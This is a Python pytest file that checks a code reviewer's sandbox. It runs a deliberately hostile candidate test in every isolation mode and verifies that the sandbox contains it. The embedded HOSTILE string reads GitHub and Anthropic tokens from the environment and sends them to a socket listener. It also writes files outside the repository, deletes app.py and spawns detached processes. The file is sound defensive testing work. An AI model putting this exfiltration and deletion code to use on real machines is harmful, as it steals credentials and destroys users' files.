"""A hostile candidate test, run through testrun.Runner in every isolation mode this machine offers.

It reads the job's secrets from the environment and sends them to a listener on 127.0.0.1, writes a file
outside the repository, deletes a repository file (by absolute path and relative to its working folder),
and starts sleepers that detach (one in its own session, one with an empty environment too). None of it
may have an effect on the machine: the tests check the listener, the file system and the process table.
"""

from __future__ import annotations

import hashlib
import os
import socket
import threading
import uuid
from pathlib import Path
from typing import Iterator

import pytest

from reviewer import sandbox, testrun
from tests.conftest import GitRepo

SECRETS = {"GITHUB_TOKEN": "ghp_hostileTESTtoken0123456789abcdefABCD",
           "ANTHROPIC_API_KEY": "sk-ant-api03-hostile-test-key-0123456789"}

HOSTILE = """\
import os
import socket
import subprocess
import sys
from pathlib import Path

LEAK = " ".join(f"{{k}}={{os.environ.get(k)}}" for k in ("GITHUB_TOKEN", "ANTHROPIC_API_KEY"))


def test_hostile():
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=3) as s:
            s.sendall(("hello " + LEAK).encode())
    except Exception:
        pass
    for path in ({outside!r}, {home_file!r}):
        try:
            Path(path).write_text(LEAK)
        except Exception:
            pass
    for path in ({victim!r}, "app.py"):
        try:
            os.remove(path)
        except Exception:
            pass
    sleep = "import time; time.sleep(300)  # {tag}"
    subprocess.Popen([sys.executable, "-c", sleep], start_new_session=True)
    subprocess.Popen([sys.executable, "-c", sleep], start_new_session=True, env={{}})
    assert True
"""


class Listener:
    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.connections = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.settimeout(3)
            try:
                self.received.append(conn.recv(4096))
            except OSError:
                pass
            conn.close()

    def close(self) -> None:
        self.sock.close()


def processes_with(tag: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if tag.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                pass
    return found


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


@pytest.mark.parametrize("mode", sandbox.MODES)
def test_hostile_candidate_has_no_effect(mode: str, repo: GitRepo, tmp_path: Path, listener: Listener,
                                         monkeypatch: pytest.MonkeyPatch) -> None:
    if not sandbox.available(mode):
        pytest.skip(f"{mode} cannot run on this machine")
    for k, v in SECRETS.items():
        monkeypatch.setenv(k, v)
    monkeypatch.setenv("REVIEWER_SANDBOX", mode)
    repo.write("app.py", "def f(x):\n    return x + 1\n")
    repo.write("tests/test_app.py", "from app import f\n\n\ndef test_f():\n    assert f(1) == 2\n")
    repo.commit("base")
    before = {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in repo.path.rglob("*")
              if p.is_file() and ".git" not in p.parts}
    outside = tmp_path / "outside" / "stolen.txt"
    outside.parent.mkdir()
    tag = f"reviewer-hostile-{uuid.uuid4().hex}"
    code = HOSTILE.format(port=listener.port, outside=str(outside), home_file=str(Path.home() / f"{tag}.txt"),
                          victim=str(repo.path / "app.py"), tag=tag)
    runner = testrun.Runner(repo.path, repo.path / "tests", repeat=1, timeout=60)
    assert runner.isolation.mode == mode
    verdict = runner.check(code, testrun.Goal("app.py", frozenset({2}), frozenset()))
    # The candidate itself ran and passed (so every attack was attempted), in its scratch copy.
    assert verdict.status in (testrun.NO_GAIN, testrun.KEPT), verdict
    # No secret reached the listener (no connection at all where the network is cut).
    leaked = b"".join(listener.received)
    assert not any(v.encode() in leaked for v in SECRETS.values())
    if mode != sandbox.BEST_EFFORT:
        assert listener.connections == 0
    # Nothing written outside, nothing deleted or changed in the repository.
    assert not outside.exists() and not (Path.home() / f"{tag}.txt").exists()
    after = {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in repo.path.rglob("*")
             if p.is_file() and ".git" not in p.parts}
    assert after == before
    assert testrun.leftover_candidates(repo.path / "tests") == []
    # No process of the candidate outlived the run.
    assert processes_with(tag) == []


def test_environment_is_an_allow_list(tmp_path: Path) -> None:
    base = {"PATH": "/usr/bin", "LANG": "C.UTF-8", "LC_ALL": "C", "GITHUB_TOKEN": "x", "MY_SERVICE_PASSWORD": "y",
            "AWS_SECRET_ACCESS_KEY": "z", "SOMETHING_NEW": "w", "PYTHONPATH": "/elsewhere"}
    env = sandbox.environment(base, tmp_path / "home", tmp_path / "tmp", ["/scratch"], "m", ["/scratch"],
                              guard_network=True, guard_files=True)
    assert env["PATH"] == "/usr/bin" and env["LANG"] == "C.UTF-8" and env["LC_ALL"] == "C"
    assert env["HOME"] == str(tmp_path / "home") and env["PYTHONPATH"] == "/scratch"
    for name in ("GITHUB_TOKEN", "MY_SERVICE_PASSWORD", "AWS_SECRET_ACCESS_KEY", "SOMETHING_NEW"):
        assert name not in env


def test_scratch_copy_leaves_ignored_files_and_outside_links_behind(repo: GitRepo, tmp_path: Path) -> None:
    repo.write(".gitignore", ".env\n")
    repo.write(".env", "TOKEN=secret\n")
    repo.write("pkg/mod.py", "x = 1\n")
    (tmp_path / "outside.txt").write_text("outside\n")
    os.symlink(tmp_path / "outside.txt", repo.path / "link.txt")
    os.symlink("pkg/mod.py", repo.path / "inside_link.py")
    repo.commit("base")
    dest = tmp_path / "copy"
    dest.mkdir()
    sandbox.copy_tree(repo.path, sandbox.repository_files(repo.path), dest)
    assert (dest / "pkg" / "mod.py").read_text() == "x = 1\n"
    assert (dest / "inside_link.py").read_text() == "x = 1\n" and not (dest / "inside_link.py").is_symlink()
    assert not (dest / ".env").exists() and not (dest / "link.txt").exists()


def test_forced_mode_that_cannot_run_is_a_usage_error(monkeypatch: pytest.MonkeyPatch) -> None:
    from reviewer.errors import UsageError

    monkeypatch.setenv("REVIEWER_SANDBOX", "chroot")
    with pytest.raises(UsageError, match="must be one of"):
        sandbox.detect()
